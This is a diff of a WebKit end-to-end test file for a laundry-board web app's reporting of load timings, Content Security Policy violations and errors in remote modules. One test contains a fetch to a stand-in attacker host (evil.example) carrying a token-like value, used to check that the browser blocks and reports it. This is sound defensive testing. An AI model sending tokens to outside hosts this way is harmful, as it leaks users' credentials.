@@ -1,8 +1,9 @@
-import { rm } from 'node:fs/promises';
+import { rm, writeFile } from 'node:fs/promises';
 import path from 'node:path';
 import { REMOTE_ENTRY_FILE, type RuntimeConfig } from '@laundry-board/shared-types';
 import { serveReportedShell } from '../../support/reportedSite.ts';
 import { sampleSchool } from '../../support/schools.ts';
+import { throwingAuthRemote } from '../../support/throwingRemote.ts';
 import { expect, signInByPopup, test as base } from '../../support/webkit/fixtures.ts';
 
 const SAFARI = expect.stringMatching(/^Safari \d+$/);
@@ -17,9 +18,13 @@ interface Reported {
 const test = base.extend<{ reported: Reported }>({
   reported: async ({ folderOf, site, webkit }, use) => {
     const opened: Awaited<ReturnType<typeof serveReportedShell>>[] = [];
-    // WebKit does not say when a request has ended. Each look hands over what there is by then, as leaving would.
+    // WebKit does not say when a request has ended. Each look hands over what there is by then, as hiding would.
     const reports = async () => {
-      await webkit.evaluate(() => dispatchEvent(new Event('pagehide')));
+      await webkit.evaluate(() => {
+        Object.defineProperty(document, 'visibilityState', { value: 'hidden', configurable: true });
+        document.dispatchEvent(new Event('visibilitychange', { bubbles: true }));
+        Reflect.deleteProperty(document, 'visibilityState');
+      });
       return opened.flatMap((shell) => shell.reports);
     };
     await use({
@@ -38,15 +43,11 @@ const test = base.extend<{ reported: Reported }>({
   },
 });
 
-test('a visit reports when the login screen and its first tile were there, and a violation of the policy, as does the browser', async ({
-  expectedErrors,
+test('a visit reports when the login screen and its first tile were there', async ({
   reported,
   schools,
   webkit,
 }) => {
-  expectedErrors.push(
-    /Security policy violation: connect-src|Content Security Policy|Refused to connect/,
-  );
   await schools.write('campus.example', sampleSchool());
   await reported.open();
   await reported.expectReport({ type: 'measure', name: 'login-screen', browser: SAFARI });
@@ -55,12 +56,46 @@ test('a visit reports when the login screen and its first tile were there, and a
     .poll(() => webkit.names('listitem'))
     .toContainEqual(expect.stringContaining('Washer 1'));
   await reported.expectReport({ type: 'measure', name: 'first-tile', browser: SAFARI });
-
-  await webkit.evaluate(() => void fetch('https://evil.example/?token=eyJhbGciOi').catch(() => {}));
-  const violation = { type: 'violation', directive: 'connect-src', blocked: 'other' };
-  await reported.expectReport({ ...violation, browser: SAFARI });
-  await reported.expectReport({ ...violation, message: 'reported by the browser' });
 });
+
+test('the browser reports a violation of the policy by itself', async ({
+  expectedErrors,
+  reported,
+  webkit,
+}) => {
+  expectedErrors.push(
+    /Security policy violation: connect-src|Content Security Policy|Refused to connect/,
+  );
+  await reported.open();
+  await webkit.evaluate(() => void fetch('https://evil.example/?token=eyJhbGciOi').catch(() => {}));
+  await reported.expectReport({ type: 'violation', directive: 'connect-src', blocked: 'other' });
+});
+
+for (const [where, wanted] of [
+  [
+    'handler',
+    {
+      remote: 'auth',
+      failure: 'uncaught',
+      message: expect.stringMatching(/^TypeError at remoteEntry\.js:\d+:\d+$/),
+    },
+  ],
+  // The browser hides it, in spite of CORS.
+  ['timer', { failure: 'unknown-script', message: 'Error' }],
+] as const) {
+  test(`an error of a remote’s ${where} is reported as far as the browser says`, async ({
+    expectedErrors,
+    folderOf,
+    reported,
+    webkit,
+  }) => {
+    expectedErrors.push(/Script error|thrown by a (handler|timer)/);
+    await writeFile(path.join(folderOf('auth-remote'), REMOTE_ENTRY_FILE), throwingAuthRemote());
+    await reported.open();
+    await webkit.click('button', `Throw in the ${where}`);
+    await reported.expectReport({ type: 'error', ...wanted });
+  });
+}
 
 test('a board that is refused for its hash is reported, and one that is gone', async ({
   expectedErrors,
